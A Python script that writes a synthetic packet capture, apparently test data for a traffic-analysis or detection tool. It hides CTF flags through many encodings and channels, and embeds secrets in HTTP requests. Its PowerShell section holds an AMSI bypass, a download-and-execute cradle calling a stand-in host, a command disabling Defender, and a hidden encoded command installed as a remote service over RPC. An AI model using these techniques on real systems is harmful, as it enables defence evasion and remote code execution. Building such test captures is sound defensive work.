#!/usr/bin/env python3
"""texts.pcap: what people hide in clear traffic, and scripts that are fetched.

Written byte by byte: flags of a game in the places where such games put
them (each once), PowerShell fetched and given to a service, and secrets in
requests. Servers are at 10.40.0.2, the clients at 10.40.0.5 and up; the
public server is of a range for documentation.

usage: texts.py [OUTPUT]
"""
import base64
import codecs
import gzip
import os
import struct
import sys
import zlib

clock = 1769940000 * 10**6  # 2026-02-01 10:00:00 UTC, in microseconds
packets = []
SERVER = "10.40.0.2"


def total(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip(src, dst, proto, body, ident=None):
    global clock
    a, b = (bytes(map(int, x.split("."))) for x in (src, dst))
    if proto in (6, 17):
        check = total(a + b + struct.pack(">BBH", 0, proto, len(body)) + body)
        at = 16 if proto == 6 else 6
        body = body[:at] + struct.pack(">H", check) + body[at + 2:]
    ident = (len(packets) * 7919 + 1) & 0xFFFF if ident is None else ident
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(body), ident, 0x4000, 64, proto, 0) + a + b
    head = head[:10] + struct.pack(">H", total(head)) + head[12:]
    mac = lambda ip: bytes([2, 0, 0, 0, 0x40, ip[3]])
    packets.append((clock, mac(b) + mac(a) + b"\x08\x00" + head + body))
    clock += 1500


class Tcp:
    """A connection, from its handshake on."""

    def __init__(self, client, sport, server, dport):
        self.ends, self.seq = [(client, sport), (server, dport)], [1000, 9000]
        self.segment(0, 0x02)
        self.segment(1, 0x12)
        self.segment(0, 0x10)

    def segment(self, side, flags, data=b""):
        (src, sport), (dst, dport) = self.ends[side], self.ends[1 - side]
        ack = self.seq[1 - side] if flags & 0x10 else 0
        ip(src, dst, 6, struct.pack(">HHIIBBHHH", sport, dport, self.seq[side], ack, 0x50, flags, 8192, 0, 0) + data)
        self.seq[side] += len(data) + (1 if flags & 3 else 0)

    def say(self, side, data, size=1400):
        for at in range(0, len(data), size):
            self.segment(side, 0x18, data[at:at + size])

    def close(self):
        self.segment(0, 0x11)
        self.segment(1, 0x11)
        self.segment(0, 0x10)


def get(client, sport, path, answer, kind="text/plain", fields="", agent="recipe", server=SERVER, coded=""):
    http = Tcp(client, sport, server, 80)
    http.say(0, f"GET {path} HTTP/1.1\r\nHost: files.example\r\nUser-Agent: {agent}\r\n{fields}\r\n".encode())
    length = "" if "chunked" in coded else f"Content-Length: {len(answer)}\r\n"
    http.say(1, f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n{coded}{length}\r\n".encode() + answer)
    http.close()


b64 = lambda data: base64.b64encode(data).decode()

# A flag over two segments of a protocol that nobody knows.
raw = Tcp("10.40.0.5", 40001, SERVER, 9999)
raw.say(0, b"hello, here it comes: flag{cut_in_", 64)
raw.say(0, b"two_segments} and that was it\n", 64)
raw.close()
# In a header, in a chunked and packed body, rotated, in UTF-16 of a file, behind the end of a picture.
get("10.40.0.5", 40002, "/1", b"nothing here\n", fields=f"X-Note: {b64(b'the note says flag{in_a_header}')}\r\n")
packed = gzip.compress(b"a page of text with flag{chunked_and_packed} within\n", mtime=0)
get("10.40.0.5", 40003, "/2", b"%x\r\n%s\r\n0\r\n\r\n" % (len(packed), packed), coded="Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n")
get("10.40.0.5", 40004, "/3.txt", codecs.encode("the old way: flag{rotated_by_half}\n", "rot13").encode())
get("10.40.0.5", 40005, "/4.txt", "notes in wide characters: flag{wide_characters}\r\n".encode("utf-16"), kind="application/octet-stream")
chunk = lambda name, data: struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
get("10.40.0.5", 40006, "/5.png", png + b"behind the end: flag{not_in_the_picture}", kind="image/png")
get("10.40.0.5", 40007, "/6.css", b".flag{color:red;background:blue}\n", kind="text/css")
get("10.40.0.5", 40008, "/7.txt", b"put your flag{xxxxxxxx} here\n")
masked = bytes(x ^ 0x5A for x in b"one byte hides it: flag{under_a_mask}")
get("10.40.0.5", 40009, "/8.txt", f"data: {b64(masked)}\n".encode())
# One octet a ping; hexadecimal in names; the low octets of IP ids.
for at, octet in enumerate(b"read the pings: flag{one_octet_a_ping}!"):
    ping = struct.pack(">BBHHHB", 8, 0, 0, 7, at, octet)
    ip("10.40.0.6", SERVER, 1, ping[:2] + struct.pack(">H", total(ping)) + ping[4:])
hidden = b"the names say flag{hidden_in_names} if you join them".hex()
for at in range(0, len(hidden), 20):
    label = hidden[at:at + 20].encode()
    query = struct.pack(">HHHHHH", 100 + at, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(x)]) + x for x in (label, b"drop", b"example", b"com")) + b"\0\0\1\0\1"
    ip("10.40.0.6", SERVER, 17, struct.pack(">HHHH", 40100, 53, 8 + len(query), 0) + query)
for octet in b"even the ids speak: flag{low_octets_of_ids} yes":
    ip("10.40.0.7", SERVER, 17, struct.pack(">HHHH", 40200, 40201, 8 + 4, 0) + b"\1\2\3\4", ident=0x4200 | octet)

# PowerShell: a script by its own client, and a command for a service.
script = b"""param($Target)
$client = New-Object Net.WebClient
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
IEX $client.DownloadString('http://203.0.113.7/second.ps1')
Set-MpPreference -DisableRealtimeMonitoring $true
"""
get("10.40.0.8", 40300, "/stage/first.ps1", script, agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1", server="203.0.113.7")
encoded = b64("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')".encode("utf-16-le"))
command = f"%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc {encoded}"
wide = lambda text: struct.pack("<III", len(text) + 1, 0, len(text) + 1) + (text + "\0").encode("utf-16-le")
pad = lambda data: data + bytes(-len(data) % 4)
rpc = Tcp("10.40.0.8", 40301, SERVER, 49700)
head = lambda kind, body, call: struct.pack("<BBBBIHHI", 5, 0, kind, 3, 0x10, 16 + len(body), 0, call) + body
uuid = lambda text: b"".join(x[::-1] if i < 3 else x for i, x in enumerate(bytes.fromhex(part) for part in text.split("-")))
bind = struct.pack("<HHIBBHHBB", 4280, 4280, 0, 1, 0, 0, 0, 1, 0) + uuid("367abb81-9844-35f1-ad32-98f038001003") + struct.pack("<HH", 2, 0) + uuid("8a885d04-1ceb-11c9-9fe8-08002b104860") + struct.pack("<HH", 2, 0)
rpc.say(0, head(11, bind, 1))
rpc.say(1, head(12, struct.pack("<HHIH", 4280, 4280, 1, 6) + b"49700\0" + struct.pack("<BBHHH", 1, 0, 0, 0, 0) + uuid("8a885d04-1ceb-11c9-9fe8-08002b104860") + struct.pack("<HH", 2, 0), 1))
stub = bytes(20) + pad(wide("updater")) + struct.pack("<I", 0x20000) + pad(wide("updater")) + struct.pack("<IIII", 0xF01FF, 0x10, 3, 0) + pad(wide(command)) + struct.pack("<IIIIII", 0, 0, 0, 0, 0, 0)
rpc.say(0, head(0, struct.pack("<IHH", len(stub), 0, 12) + stub, 2))
rpc.say(1, head(2, struct.pack("<IHBB", 28, 0, 0, 0) + bytes(24) + struct.pack("<I", 0), 2))
rpc.close()

# Secrets: in a query, a token that says what it is, a key, and one that is none.
part = lambda data: base64.urlsafe_b64encode(data).decode().rstrip("=")
jwt = part(b'{"alg":"HS256","typ":"JWT"}') + "." + part(b'{"iss":"plant","sub":"operator","exp":1700000000}') + "." + part(b"no signature that counts")
get("10.40.0.9", 40400, "/api?user=anna&password=line%20one&empty=&pwd=null", b"{}", kind="application/json", fields=f"Authorization: Bearer {jwt}\r\n", server="203.0.113.8")
key = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(b64(bytes((i * 37 + j) & 255 for j in range(48))) for i in range(4)) + "\n-----END RSA PRIVATE KEY-----\n"
get("10.40.0.9", 40401, "/key.pem", key.encode(), server="203.0.113.8")
get("10.40.0.9", 40402, "/sample", b"documentation says AKIAIOSFODNN7EXAMPLE\nthis one is real: AKIAZQ3DRBGYM7KJTX2W\n", server="203.0.113.8")

here = os.path.dirname(os.path.abspath(__file__))
target = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(here), "texts.pcap")
with open(target, "wb") as f:
    f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for when, data in packets:
        f.write(struct.pack("<IIII", when // 10**6, when % 10**6, len(data), len(data)) + data)
